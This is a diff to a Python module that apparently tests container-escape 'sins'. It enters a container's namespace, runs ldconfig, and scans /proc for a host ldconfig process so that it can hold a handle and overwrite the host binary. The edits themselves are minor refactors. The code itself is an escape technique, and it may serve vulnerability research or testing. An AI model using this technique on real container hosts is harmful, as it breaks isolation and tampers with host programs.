@@ -31,7 +31,7 @@ def inject(sin: str, process: int, root: Path, driver: Path) -> None:
     if libc.setns(namespace, _CLONE_NEWNS):
         raise OSError("setns")
     if ldconfig >= 0:
-        _run_in(root, lambda: os.execve(ldconfig, ["sleep", "0.1"], {}))
+        _run_in(root, lambda: os.execve(ldconfig, ["sleep", "0.1"], {}))  # noqa: S606 - the sin
         time.sleep(_STEAL_S)
         return
     SINS[sin](root)
@@ -79,7 +79,7 @@ def _write_the_cache_by_path(root: Path) -> None:
 
 
 def _run_the_images_ldconfig(root: Path) -> None:
-    _run_in(root, lambda: os.execv("/sbin/ldconfig", ["ldconfig"]))
+    _run_in(root, lambda: os.execv("/sbin/ldconfig", ["ldconfig"]))  # noqa: S606 - the sin
 
 
 SINS: dict[str, Callable[[Path], None]] = {
@@ -107,12 +107,12 @@ def _run_in(root: Path, execute: Callable[[], object]) -> None:
 
 def steal_programs(driver: Path) -> None:
     """Wait for a program of the host to run beside us, keep a handle on it, and write to it when it has ended."""
-    wanted = os.stat(driver / "sbin/ldconfig")
+    wanted = (driver / "sbin/ldconfig").stat()
     while True:
-        for name in os.listdir("/proc"):
+        for program in Path("/proc").glob("[0-9]*/exe"):
             with contextlib.suppress(OSError):
-                if name.isdigit() and os.path.samestat(os.stat(f"/proc/{name}/exe"), wanted):
-                    _overwrite(os.open(f"/proc/{name}/exe", os.O_PATH))
+                if os.path.samestat(program.stat(), wanted):
+                    _overwrite(os.open(program, os.O_PATH))
 
 
 def _overwrite(handle: int) -> None:
